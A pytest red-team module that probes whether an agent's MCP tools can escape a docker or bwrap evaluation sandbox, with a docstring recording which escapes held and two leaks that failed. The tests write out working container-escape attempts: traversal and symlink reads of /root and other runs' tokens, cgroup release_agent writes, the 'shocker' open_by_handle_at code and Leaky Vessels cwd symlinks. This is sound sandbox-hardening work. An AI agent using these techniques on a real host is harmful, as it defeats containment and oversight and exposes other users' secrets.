"""Red team R4, goal "out of the box": a host file (a canary in /root, another run's
mcp-token), code as root or outside the sandbox, or another run's workspace, from the MCP
tools of one run. NOT collected by default (the file name does not start with test_); the
lead decides. Every test asserts the SECURE outcome.

Seen on 2026-12-05 (R4), both backends:

- Held: no block device, no image file, no mount of an ext4 image the agent crafts (so the
  kernel never parses an image the agent wrote), no mknod; /workspace, /ramp/scratch are
  nosuid,nodev and commands run with NoNewPrivs and no capabilities; cgroup files are
  read-only or root's (docker: /sys/fs/cgroup is read-only; bwrap: a cgroup2 or cgroup v1
  hierarchy mounted in a nested user+cgroup namespace is visible but nothing is writable);
  the canary and another run's token are reached by no path of the file tools or of
  run_command; bwrap: the cgroup v1 ``name=systemd`` hierarchy's root (with its
  ``release_agent``, CVE-2022-0492) mounts in a nested namespace but nothing in it is
  writable; open_by_handle_at on a forged handle of the host disk's root ("shocker") is
  refused (EPERM; docker's seccomp refuses name_to_handle_at too); run_command's ``cwd``
  naming a workspace symlink to ``/proc/self/fd/N`` ("Leaky Vessels", runc
  CVE-2024-21626; runc here is 1.1.5+ds1-1+deb12u1) resolves inside the sandbox only.
- FAILS (docker): the container's read-only /sys shows every loop device of the host:
  ``/sys/block/loopN/loop/backing_file`` names the host path of every run's workspace and
  scratch image (so every run id on the machine, and ``/var/lib/ramp/grading/<pid>-...``
  while any run is being graded) and ``/sys/block/loopN/stat`` counts each of those
  workspaces' reads and writes as they happen: a view of other runs' workspaces.
- FAILS (bwrap): ``unshare -UrmC`` then ``mount -t cgroup2`` inside the sandbox mounts the
  host's whole unified hierarchy (the bwrap sandbox's cgroup namespace is rooted at ``/``
  there), where ``docker/<container id>/cpu.stat``, ``memory.pressure``, ``io.pressure``
  of every container on the host can be read: the CPU time of another run's development
  sandbox and of every judge container grading any run, per container.

Run: ``.venv/bin/python -m pytest tests/trust/redteam2_host.py -p no:cacheprovider -v``
"""

from __future__ import annotations

import os
import subprocess
import uuid
from pathlib import Path

import pytest

from tests.trust.attacks import BOTH
from tests.trust.conftest import Sessions
from tests.trust.session import Session


def _out(reply: dict[str, object]) -> str:
    return f"{reply.get('stdout', '')}{reply.get('stderr', '')}"


def _other(sessions: Sessions, backend: str) -> Session:
    """A second run on the same host (the victim), with a command run in it so its sandbox
    (a container, for docker) exists."""
    victim = sessions.get(f"victim-{backend}", backend)
    victim.sh("echo victim > victim.txt")
    return victim


@pytest.mark.parametrize("backend", BOTH)
def test_canary_and_other_token_unreachable(sessions: Sessions, backend: str) -> None:
    """A root-only canary in /root and another run's mcp-token: read through every path of
    the file tools (absolute, traversal, a symlink planted in the workspace, grep and glob
    through it) and of run_command (cat, find, /proc/*/root); then written through the link."""
    s = sessions.box(backend)
    victim = _other(sessions, backend)
    secret = uuid.uuid4().hex
    canary = Path("/root") / f"canary-r4-{uuid.uuid4().hex[:8]}"
    canary.write_text(secret)
    canary.chmod(0o600)
    token_path = victim.workspace.parent / "mcp-token"
    token = token_path.read_text().strip() if token_path.exists() else None
    replies: list[str] = []
    try:
        for target in (canary, token_path):
            rel = "../" * 12 + str(target).lstrip("/")
            for path in (str(target), rel):
                replies.append(s.call("read_file", {"path": path}).text)
                replies.append(s.call("write_file", {"path": path, "content": "pwned"}).text)
            s.sh(f"rm -f lnk; ln -s {target} lnk; mkdir -p d; ln -sfn {target.parent} d/up")
            replies.append(s.call("read_file", {"path": "lnk"}).text)
            replies.append(s.call("read_file", {"path": f"d/up/{target.name}"}).text)
            replies.append(s.call("grep", {"pattern": "[0-9a-f]{8}", "path": "d/up"}).text)
            replies.append(s.call("glob", {"pattern": "d/up/*"}).text)
            replies.append(s.call("edit_file", {"path": "lnk", "old": "a", "new": "b"}).text)
            replies.append(s.call("write_file", {"path": "lnk", "content": "pwned"}).text)
            replies.append(
                _out(
                    s.sh(
                        f"cat {target} lnk d/up/{target.name} 2>&1; "
                        f"cat /proc/*/root{target} /proc/*/cwd/../{target.name} 2>&1; "
                        f"find / -xdev -name '{target.name}' 2>/dev/null | head"
                    )
                )
            )
    finally:
        s.sh("rm -rf lnk d")
        seen = canary.read_text()
        canary.unlink()
    text = "\n".join(replies)
    assert secret not in text, "the /root canary came back through MCP"
    assert seen == secret, "the /root canary was changed through MCP"
    if token:
        assert token not in text, "another run's mcp-token came back through MCP"
        assert token_path.read_text().strip() == token


@pytest.mark.parametrize("backend", BOTH)
def test_no_block_device_image_or_crafted_mount(sessions: Sessions, backend: str) -> None:
    """The workspace is a loop-mounted ext4 image the kernel parses: the agent must reach
    neither the image, nor a loop device, nor mount an image it crafted, nor make a device
    node; the workspace and scratch must be nosuid,nodev, commands without privileges."""
    s = sessions.box(backend)
    script = r"""
set +e
ls /dev/loop* /dev/loop-control /dev/vda /dev/sda 2>/dev/null | sed 's/^/DEV /'
find / -xdev \( -name '*.cap.img' -o -name '*.cap.json' \) 2>/dev/null | sed 's/^/IMG /'
python3 - <<'EOF'
import struct
img = bytearray(1 << 20)
img[1024 + 56:1024 + 58] = struct.pack('<H', 0xEF53)  # an ext4 magic, nothing else sane
open('/tmp/evil.img', 'wb').write(img)
EOF
mkdir -p /tmp/m
unshare -Urm sh -c 'mount -o loop /tmp/evil.img /tmp/m && echo MOUNTED-LOOP' 2>&1
unshare -Urm sh -c 'mount -t ext4 /tmp/evil.img /tmp/m && echo MOUNTED-EXT4' 2>&1
mknod /workspace/nod c 1 3 2>/dev/null && echo MKNOD-OK
unshare -Ur sh -c 'mknod /workspace/nod2 b 7 0' 2>/dev/null && echo MKNOD-USERNS-OK
grep -E ' /workspace | /ramp/scratch ' /proc/self/mountinfo | sed 's/^/MNT /'
grep -E '^(CapEff|NoNewPrivs)' /proc/self/status
cp /usr/bin/id /workspace/suid-id && chmod 4755 /workspace/suid-id && /workspace/suid-id -u
rm -f /workspace/suid-id /workspace/nod /workspace/nod2
"""
    out = _out(s.sh(script, 60))
    assert "DEV " not in out, out
    assert "IMG " not in out, out
    assert "MOUNTED" not in out and "MKNOD" not in out, out
    mounts = [line for line in out.splitlines() if line.startswith("MNT ")]
    assert len(mounts) == 2 and all("nosuid" in m and "nodev" in m for m in mounts), out
    assert "CapEff:\t0000000000000000" in out and "NoNewPrivs:\t1" in out, out
    assert "\n0\n" not in f"\n{out}", "a setuid copy made the command root"


@pytest.mark.parametrize("backend", BOTH)
def test_cgroups_not_writable(sessions: Sessions, backend: str) -> None:
    """Leave the sandbox's control group or lift its limits: docker's /sys/fs/cgroup, and
    cgroup2 / cgroup v1 hierarchies mounted in a nested user+cgroup namespace (bwrap)."""
    s = sessions.box(backend)
    script = r"""
cat > /tmp/cgw.py <<'EOF'
import os, sys
NAMES = ("cgroup.procs", "pids.max", "memory.max", "memory.limit_in_bytes",
         "cgroup.subtree_control", "cpu.cfs_quota_us", "release_agent", "notify_on_release",
         "devices.allow", "tasks")
for root in sys.argv[1:]:
    for top, dirs, files in os.walk(root):
        if top.count("/") - root.count("/") >= 3:
            dirs[:] = []
        for name in NAMES:
            if name in files:
                try:
                    with open(os.path.join(top, name), "w") as f:
                        f.write("%d" % os.getpid() if name == "cgroup.procs" else "max")
                    print("WROTE", top, name)
                except OSError:
                    pass
        try:
            os.mkdir(os.path.join(top, "r4-esc"))
            print("MKDIR", top)
            os.rmdir(os.path.join(top, "r4-esc"))
        except OSError:
            pass
print("walked", *sys.argv[1:])
EOF
python3 /tmp/cgw.py /sys/fs/cgroup
unshare -UrmC sh -c 'mkdir -p /tmp/cg2 /tmp/cgp /tmp/cgm /tmp/cgs /tmp/cgd /tmp/cgf;
  mount -t cgroup2 none /tmp/cg2; mount -t cgroup -o pids none /tmp/cgp;
  mount -t cgroup -o memory none /tmp/cgm; mount -t cgroup -o none,name=systemd none /tmp/cgs;
  mount -t cgroup -o devices none /tmp/cgd; mount -t cgroup -o freezer none /tmp/cgf;
  grep -c cgroup /proc/self/mounts; ls /tmp/cgs/release_agent /tmp/cgd/devices.allow;
  echo "/bin/sh -c id>/tmp/r4" > /tmp/cgs/release_agent && echo WROTE release_agent;
  python3 /tmp/cgw.py /tmp/cg2 /tmp/cgp /tmp/cgm /tmp/cgs /tmp/cgd /tmp/cgf' 2>&1
echo done
"""
    out = _out(s.sh(script, 60))
    assert "done" in out, out
    assert "WROTE" not in out and "MKDIR" not in out, out


@pytest.mark.parametrize("backend", BOTH)
def test_other_runs_loop_devices_hidden(sessions: Sessions, backend: str) -> None:
    """The host's loop devices back every run's workspace: their backing-file names (run
    ids, grading directories) and I/O counters must not be visible in a sandbox."""
    s = sessions.box(backend)
    victim = _other(sessions, backend)
    out = _out(
        s.sh(
            "for d in /sys/block/loop* /sys/class/block/loop*; do "
            'echo "$d $(cat $d/loop/backing_file 2>/dev/null) $(cat $d/stat 2>/dev/null)"; '
            "done 2>/dev/null; cat /proc/partitions 2>/dev/null | grep loop",
            60,
        )
    )
    assert victim.run_id not in out, (
        f"another run's workspace image is named in the sandbox: {out[:600]}"
    )
    assert ".cap.img" not in out, f"host workspace images are named in the sandbox: {out[:600]}"


def _container_ids(run_id: str) -> list[str]:
    """Host-side observation: the full ids of the containers of ``run_id`` (docker)."""
    done = subprocess.run(
        ["docker", "ps", "-q", "--no-trunc", "--filter", f"label=io.ramp.run={run_id}"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return done.stdout.split()


@pytest.mark.parametrize("backend", BOTH)
def test_other_runs_cgroup_usage_hidden(sessions: Sessions, backend: str) -> None:
    """Another run's docker sandbox has a control group on the host: its name and its CPU,
    memory and I/O counters must not be readable from this run's sandbox (a cgroup2 mount
    in a nested user+cgroup namespace, or /sys/fs/cgroup)."""
    if os.geteuid() != 0:
        pytest.skip("needs root (the docker engine) to name the victim's container")
    s = sessions.box(backend)
    victim = _other(sessions, "docker")
    ids = _container_ids(victim.run_id)
    assert ids, "the victim run has no container"
    out = _out(
        s.sh(
            "unshare -UrmC sh -c 'mkdir -p /tmp/cg2 && mount -t cgroup2 none /tmp/cg2 && "
            'find /tmp/cg2 -maxdepth 4 -name cpu.stat -exec sh -c "echo {}; head -1 {}" \\;\' '
            "2>/dev/null; find /sys/fs/cgroup -maxdepth 4 -name cpu.stat 2>/dev/null",
            60,
        )
    )
    leaked = [i for i in ids if i in out]
    assert not leaked, f"another run's container's counters are readable: {out[:800]}"


_SHOCKER = r"""
cat > /tmp/obh.py <<'EOF'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
for where in ("/ramp/reference", "/ramp/include", "/workspace"):
    buf = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("i", buf, 0, 128)
    mount_id = ctypes.c_int()
    r = libc.name_to_handle_at(-100, where.encode(), buf, ctypes.byref(mount_id), 0)
    print("name_to_handle_at", where, r, ctypes.get_errno())
    # the file system's root directory (inode 2, generation 0) as an ext4 handle
    struct.pack_into("iiII", buf, 0, 8, 1, 2, 0)
    fd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
    got = libc.open_by_handle_at(fd, buf, os.O_RDONLY | os.O_DIRECTORY)
    print("open_by_handle_at", where, got, ctypes.get_errno())
    if got >= 0:
        print("LISTED", where, sorted(os.listdir(got))[:30])
EOF
python3 /tmp/obh.py 2>&1
unshare -Ur python3 /tmp/obh.py 2>&1
echo done
"""


@pytest.mark.parametrize("backend", BOTH)
def test_open_by_handle_refused(sessions: Sessions, backend: str) -> None:
    """The "shocker" escape: /ramp/reference is a bind mount of a directory of the host's
    own file system (/var/lib/ramp on /dev/vda); a handle forged for that file system's
    root directory, opened with open_by_handle_at, would give the host's whole disk."""
    s = sessions.box(backend)
    out = _out(s.sh(_SHOCKER, 60))
    assert "done" in out, out
    assert "LISTED" not in out, out
    opened = [line for line in out.splitlines() if line.startswith("open_by_handle_at")]
    assert opened and all(line.split()[2] == "-1" for line in opened), out


@pytest.mark.parametrize("backend", BOTH)
def test_cwd_through_fd_symlinks(sessions: Sessions, backend: str) -> None:
    """ "Leaky Vessels" (runc CVE-2024-21626) through run_command's ``cwd``: it must be
    relative, but may name a workspace symlink to ``/proc/self/fd/N``, ``/proc/1/root`` or
    ``/``; docker hands it to runc as the exec's working directory (bwrap to --chdir). A
    host descriptor leaked into the new process would put the command's cwd on the host."""
    s = sessions.box(backend)
    victim = _other(sessions, backend)
    secret = uuid.uuid4().hex
    canary = Path("/root") / f"canary-r4-{uuid.uuid4().hex[:8]}"
    canary.write_text(secret)
    canary.chmod(0o600)
    names = [f"fdl{n}" for n in range(3, 16)] + ["p1root", "selfcwd"]
    probe = (
        f"pwd; cat {'../' * 12}root/{canary.name} 2>&1; "
        f"ls {'../' * 12}var/lib/ramp/runs 2>&1 | head -50; "
        f"cat {'../' * 12}var/lib/ramp/runs/*/mcp-token 2>&1"
    )
    replies = []
    try:
        s.sh(
            "for n in $(seq 3 15); do ln -sfn /proc/self/fd/$n fdl$n; done; "
            "ln -sfn /proc/1/root p1root; ln -sfn /proc/self/cwd selfcwd"
        )
        for name in names:
            replies.append(
                s.call("run_command", {"command": probe, "cwd": name, "timeout_s": 20}).text
            )
    finally:
        s.sh("rm -f fdl* p1root selfcwd")
        canary.unlink()
    text = "\n".join(replies)
    assert secret not in text, "a host canary was read from a cwd outside the sandbox"
    assert victim.run_id not in text, "the host's run directory was listed"
    token = victim.workspace.parent / "mcp-token"
    if token.exists():
        assert token.read_text().strip() not in text, "another run's token was read"
